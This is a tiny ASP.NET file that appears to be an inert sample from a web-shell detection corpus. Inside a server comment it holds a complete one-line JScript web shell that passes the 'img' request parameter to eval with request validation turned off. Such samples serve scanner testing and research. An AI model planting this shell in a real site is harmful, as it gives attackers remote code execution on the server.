<%-- hegui corpus: inert sample - an ASP.NET server comment is never compiled
<%@ Page Language="Jscript" validateRequest="false" %><%Response.Write(eval(Request.Item["img"],"unsafe"));%>
--%>
